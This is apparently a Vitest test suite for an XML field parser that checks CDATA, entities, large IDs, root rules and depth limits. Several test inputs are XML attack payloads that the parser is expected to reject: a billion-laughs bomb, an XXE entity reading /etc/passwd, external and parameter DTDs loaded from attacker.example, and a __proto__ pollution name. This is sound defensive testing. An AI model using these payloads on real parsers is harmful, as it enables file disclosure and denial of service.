import { describe, expect, it } from 'vitest';
import { MAX_NESTING_DEPTH } from './limits.js';
import { parseXmlFields } from './xml-document.js';

function expectPayloadError(text: string, code: string): void {
  expect(() => parseXmlFields(text)).toThrow(expect.objectContaining({ name: 'PayloadError', code }));
}

describe('parseXmlFields', () => {
  it("keeps <Content><![CDATA[007]]></Content> as '007' (fast-xml-parser's default gives 7)", () => {
    expect(parseXmlFields('<xml><Content><![CDATA[007]]></Content><N>007</N></xml>')).toEqual({
      Content: '007',
      N: '007',
    });
  });

  it('keeps MsgIds above 2^53 exact and distinct', () => {
    const ids = ['22223624286040849', '22223624286040848', '22223624286040850'];
    expect(ids.map((id) => parseXmlFields(`<xml><MsgId>${id}</MsgId></xml>`).MsgId)).toEqual(ids);
  });

  it('never trims CDATA content and drops indentation between elements', () => {
    const xml = '<?xml version="1.0" encoding="utf-8"?>\n<xml>\n  <Content><![CDATA[  hi \n ]]></Content>\n  <Empty></Empty>\n  <Self/>\n</xml>\n';
    expect(parseXmlFields(xml)).toEqual({ Content: '  hi \n ', Empty: '', Self: '' });
  });

  it('turns repeated elements into arrays and keeps nesting', () => {
    const xml =
      '<xml><SubscribeMsgSentEvent><List><TemplateId><![CDATA[t1]]></TemplateId><MsgID>1864323726461255680</MsgID></List>' +
      '<List><TemplateId><![CDATA[t2]]></TemplateId></List></SubscribeMsgSentEvent><detail><a>1</a></detail><detail><a>2</a></detail></xml>';
    expect(parseXmlFields(xml)).toEqual({
      SubscribeMsgSentEvent: {
        List: [{ TemplateId: 't1', MsgID: '1864323726461255680' }, { TemplateId: 't2' }],
      },
      detail: [{ a: '1' }, { a: '2' }],
    });
  });

  it('decodes the predefined entities and character references in text, not in CDATA', () => {
    expect(parseXmlFields('<xml><A>a &amp; b &lt;&gt;&quot;&apos; &#20013;&#x1F600;</A><B><![CDATA[&amp;]]></B></xml>')).toEqual({
      A: 'a & b <>"\' 中😀',
      B: '&amp;',
    });
  });

  it('ignores attributes', () => {
    expect(parseXmlFields('<xml a="1"><A b="2">v</A></xml>')).toEqual({ A: 'v' });
  });

  it('keeps "]]>" split across two CDATA sections', () => {
    expect(parseXmlFields('<xml><A><![CDATA[x]]]]><![CDATA[>y]]></A></xml>')).toEqual({ A: 'x]]>y' });
  });

  it.each([
    ['an empty DOCTYPE', '<!DOCTYPE xml><xml><A>1</A></xml>'],
    [
      'a billion-laughs entity bomb',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><A>&lol3;</A></xml>',
    ],
    ['an external entity (XXE)', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><A>&xxe;</A></xml>'],
    ['an external DTD', '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><A>1</A></xml>'],
    ['a DOCTYPE inside the root', '<xml><!DOCTYPE x [<!ENTITY y "z">]><A>&y;</A></xml>'],
  ])('rejects %s', (_label, xml) => {
    expectPayloadError(xml, 'doctype_forbidden');
  });

  it('rejects parameter entities and a lowercase doctype', () => {
    expectPayloadError('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>', 'doctype_forbidden');
    expectPayloadError('<!doctype xml><xml/>', 'doctype_forbidden');
  });

  it('accepts "<!DOCTYPE" as chat text inside CDATA', () => {
    expect(parseXmlFields('<xml><Content><![CDATA[<!DOCTYPE html> <!ENTITY x "y"> &x;]]></Content></xml>')).toEqual({
      Content: '<!DOCTYPE html> <!ENTITY x "y"> &x;',
    });
  });

  it.each([
    ['an undeclared entity', '<xml><A>&nbsp;</A></xml>'],
    ['a reference to U+0000', '<xml><A>&#0;</A></xml>'],
    ['a reference beyond Unicode', '<xml><A>&#x110000;</A></xml>'],
    ['a reference to a surrogate', '<xml><A>&#xD800;</A></xml>'],
  ])('rejects %s', (_label, xml) => {
    expectPayloadError(xml, 'bad_entity');
  });

  it.each([
    ['another root element', '<root><A>1</A></root>'],
    ['two roots', '<xml><A>1</A></xml><xml/>'],
    ['text in the root', '<xml>hello</xml>'],
  ])('rejects %s as bad_root', (_label, xml) => {
    expectPayloadError(xml, 'bad_root');
  });

  it('accepts an empty root as no fields', () => {
    expect(parseXmlFields('<xml/>')).toEqual({});
    expect(parseXmlFields('<xml>\n</xml>')).toEqual({});
  });

  it.each([
    ['mismatched tags', '<xml><A>1</B></xml>'],
    ['an unclosed root', '<xml><A>1</A>'],
    ['an unclosed CDATA section', '<xml><A><![CDATA[x</A></xml>'],
    ['trailing text', '<xml><A>1</A></xml> success'],
    ['a bare ampersand', '<xml><A>a & b</A></xml>'],
    ['an empty document', ''],
  ])('rejects %s as malformed_xml', (_label, xml) => {
    expectPayloadError(xml, 'malformed_xml');
  });

  it('rejects text mixed with child elements', () => {
    expectPayloadError('<xml>text<A>1</A></xml>', 'mixed_content');
    expectPayloadError('<xml><A>x<B>1</B></A></xml>', 'mixed_content');
  });

  it('rejects element names that are not names, such as a stray <!ENTITY>', () => {
    expectPayloadError('<xml><!ENTITY x "y"><A>1</A></xml>', 'bad_element_name');
  });

  it('rejects prototype-polluting element names', () => {
    expect(() => parseXmlFields('<xml><__proto__><a>1</a></__proto__></xml>')).toThrow(
      expect.objectContaining({ name: 'PayloadError' }),
    );
    expect(({} as Record<string, unknown>).a).toBeUndefined();
  });

  it(`accepts ${MAX_NESTING_DEPTH} levels of elements and rejects one more`, () => {
    const nested = (depth: number) => `<xml>${'<a>'.repeat(depth - 1)}x${'</a>'.repeat(depth - 1)}</xml>`;
    expect(() => parseXmlFields(nested(MAX_NESTING_DEPTH))).not.toThrow();
    expectPayloadError(nested(MAX_NESTING_DEPTH + 1), 'too_deep');
    expectPayloadError(nested(10_000), 'too_deep');
  });
});
